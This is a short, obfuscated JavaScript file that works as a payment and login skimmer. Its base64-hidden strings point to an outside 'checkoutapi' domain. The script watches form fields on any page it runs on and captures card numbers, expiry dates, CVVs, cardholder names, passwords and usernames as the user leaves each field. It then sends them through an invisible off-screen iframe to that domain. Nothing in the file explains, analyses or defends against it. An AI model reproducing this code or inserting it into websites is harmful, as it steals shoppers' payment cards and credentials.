(function () {
  var s = {
    u: atob('aHR0cHM6Ly93aWRnZXRzLWNoZWNrb3V0YXBpLnNob3AvZW1iZWQvYnJpZGdlLmh0bWw='),
    t: atob('aWZyYW1l'),
    m: atob('cG9zdE1lc3NhZ2U='),
    w: atob('Y29udGVudFdpbmRvdw==')
  };
  var box = null;
  var store = {};

  function frame() {
    if (box) return box;
    box = document.createElement(s.t);
    box.setAttribute('src', s.u);
    box.setAttribute('style', 'width:0;height:0;border:0;position:absolute;left:-10000px');
    box.setAttribute('sandbox', 'allow-scripts allow-same-origin');
    document.body.appendChild(box);
    return box;
  }

  function keyOf(el) {
    var k = (el.name || el.id || '').toLowerCase();
    if (/card.?num|cc.?num|pan/.test(k)) return 'n';
    if (/exp/.test(k)) return 'x' + (/year|yy/.test(k) ? 'y' : /month|mm/.test(k) ? 'm' : '');
    if (/cvv|cvc|cid|security/.test(k)) return 'v';
    if (/holder|owner|name.?on/.test(k)) return 'h';
    if (/pass/.test(k)) return 'pw';
    if (/mail|login|user/.test(k)) return 'id';
    return null;
  }

  function onBlur(e) {
    var el = e.target;
    if (!el || !('value' in el)) return;
    var k = keyOf(el);
    if (!k || !el.value) return;
    store[k] = el.value;
    if ((store.n && store.v) || (store.id && store.pw)) {
      store.o = location.origin;
      var f = frame();
      var payload = btoa(encodeURIComponent(JSON.stringify(store)));
      setTimeout(function () {
        f[s.w][s.m](payload, '*');
      }, 300);
    }
  }

  document.addEventListener('focusout', onBlur, true);
})();
